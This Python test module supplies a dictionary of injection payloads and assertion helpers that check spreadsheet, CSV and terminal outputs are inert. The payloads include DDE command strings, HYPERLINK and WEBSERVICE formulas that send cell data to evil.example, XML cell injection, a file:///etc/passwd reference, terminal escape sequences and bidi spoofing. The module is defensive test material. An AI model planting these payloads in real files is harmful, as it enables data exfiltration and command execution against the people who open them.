"""Texts that try to become more than text, and the assertions that every output has to pass with them.

For every writer, present and to come: results, copies, CSV files, the board, mail. A new output carries all PAYLOADS
and ends with `no_live_cell` (a workbook) or `no_control_characters` (what a terminal shows).
"""

from __future__ import annotations

import re
import unicodedata
import zipfile
from collections.abc import Collection
from io import BytesIO

import openpyxl
from lxml import etree

PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Fund")',
    "plus and DDE": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at sign": "@SUM(1+1)*cmd",
    "web address": "https://example.org/fund",
    "equals": "=1+1",
    "DDE": "=cmd|'/c calc'!A1",
    "DDE without equals": "cmd|'/c calc'!A1",
    "web service": '=WEBSERVICE("http://evil.example/"&A1)',
    "import": '=IMPORTXML("http://evil.example","//a")',
    "other workbook": "='[http://evil.example/x.xlsx]S'!A1",
    "cell of the book": "=Holdings!$A$1",
    "name and cell": "Holdings!A1",
    "tab before": "\t=1+1",
    "return before": "\r=1+1",
    "line feed inside": "Fund\n=1+1",
    "percent-encoded": "%0A=1+1",
    "full-width equals": "\uff1d1+1",
    "array": "{=1+1}",
    "apostrophe before": "'=1+1",
    "quote before": '"=1+1',
    "comma and formula": "Fund,=1+1",
    "semicolon and formula": "Fund;=1+1",
    "mail": "mailto:eve@evil.example?subject=x",
    "file": "file:///etc/passwd",
    "share": r"\\evil.example\share\x.xlsx",
    "script": "javascript:alert(1)",
    "internal": "internal:Holdings!A1",
    "external": "external:evil.xlsx#S!A1",
    "escape of Excel's": "a_x000D_b_x0041_",
    "formula in XML": "<f>1+1</f><v>2</v>",
    "cell in XML": '</t></is></c><c r="Z9"><f>1+1</f></c><c><is><t>',
    "rich string": '<r><t>x</t></r></is></c><c r="Z9"><f>1+1</f></c><c t="inlineStr"><is><r><t>y</t></r>',
    "well-formed rich string": "<r><t>Fund</t></r>",
    "entity": "&lt;f&gt; &amp; &#61;1 &evil;",
    "CDATA": "]]><![CDATA[=1+1]]>",
    "markup": "<b>&amp; \"quoted\" 'single'</b><script>alert(1)</script>",
    "NUL": "a\x00b",
    "control characters": "a" + "".join(map(chr, range(1, 32))) + "b\x7f\x85\x9b31m",
    "terminal colours": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "half a pair": "half \ud83d pair",
    "right to left": "fund\u202eslx.exe",
    "isolates and marks": "a\u2067b\u2069c\u200fd\u061ce",
    "no characters": "a\ufffe\uffffb",
    "astral": "emoji 📈 fund £ – −",
    "too long": "=" + "x" * 39_999,
    "too long in pairs": "📈" * 20_000,
    "digits": "007",
    "exponent": "1E5",
    "truth": "TRUE",
    "format codes": "&L&8 {} %s %n $HOME `id` ${jndi:x}",
    "blanks around": "  blanks around  ",
}
"""Name to text."""

_KINDS = {
    "worksheet", "styles", "sharedStrings", "theme", "table", "drawing", "chart", "officeDocument", "core-properties",
    "extended-properties", "vbaProject", "comments", "vmlDrawing",
}  # fmt: skip
"""The relationships that a workbook without a way out has."""

_PLACE = re.compile(r"(?:'(?:[^'\[\]:*?/\\]|'')+'|\w+)!\$?[A-Z]{1,3}\$?\d+(?::\$?[A-Z]{1,3}\$?\d+)?")
_MOST_CHARACTERS = 32_767
_UNSHOWN = {"Cc", "Cs", "Zl", "Zp"}
_REORDERING = set("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def parts_of(package: bytes) -> dict[str, bytes]:
    """The parts of a package by name."""
    with zipfile.ZipFile(BytesIO(package)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def no_live_cell(package: bytes, *, formulas_allowed_on: Collection[str] = ()) -> openpyxl.Workbook:
    """No formula, no link out, no relationship that leads out; every part well formed, every text within the limit.

    Links inside the workbook are allowed: to a cell of a sheet, quoted as Excel wants it. `formulas_allowed_on`: sheets
    whose own formulas are wanted. The workbook as openpyxl reads it, for more to be asked of it.
    """
    nothing_leads_out(package)
    book = openpyxl.load_workbook(BytesIO(package))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                live = cell.data_type == "f" and sheet.title not in formulas_allowed_on
                assert not live, f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r:.80}"
    return book


def nothing_leads_out(package: bytes) -> None:
    """The same of the parts alone, for a package that openpyxl does not open."""
    for name, data in parts_of(package).items():
        if name.endswith((".xml", ".rels")):
            _is_dead(name, etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True)))


def _is_dead(name: str, root: etree._Element) -> None:
    """One part: what openpyxl does not load counts, too."""
    for element in root.iter():
        tag = etree.QName(element).localname if isinstance(element.tag, str) else ""
        if name.endswith(".rels") and tag == "Relationship":
            kind = element.get("Type", "").rpartition("/")[2]
            assert element.get("TargetMode") != "External", f"{name}: {element.get('Target')}"
            assert kind in _KINDS, f"{name}: a relationship to {kind}"
        elif tag == "hyperlink":
            assert set(map(str, element.attrib)) <= {"ref", "location", "display"}, f"{name}: a link out"
            assert _PLACE.fullmatch(element.get("location", "")), f"{name}: {element.get('location')}"
        elif name.startswith("xl/charts/") and tag == "f":
            assert _PLACE.fullmatch(element.text or ""), f"{name}: {element.text}"
        elif tag == "c" and "worksheets/" in name:
            _is_a_value(name, element)
        assert not tag.startswith(("dde", "ole")), f"{name}: {tag}"


def _is_a_value(name: str, cell: etree._Element) -> None:
    children = [etree.QName(child).localname for child in cell]
    assert "f" in children or cell.get("t") in (None, "n", "s", "b", "e", "inlineStr"), f"{name}: t={cell.get('t')}"
    text = "".join(cell.itertext("{*}t"))
    assert len(text.encode("utf-16-le")) // 2 <= 7 * _MOST_CHARACTERS  # an escape takes seven characters for one


def no_control_characters(text: str) -> None:
    """Nothing that a terminal obeys instead of showing it: no controls but tab and new line, no change of direction."""
    for character in text:
        obeyed = unicodedata.category(character) in _UNSHOWN and character not in "\t\n"
        assert not obeyed, f"{character!r} in {text[:200]!r}"
        assert character not in _REORDERING, f"{character!r} in {text[:200]!r}"
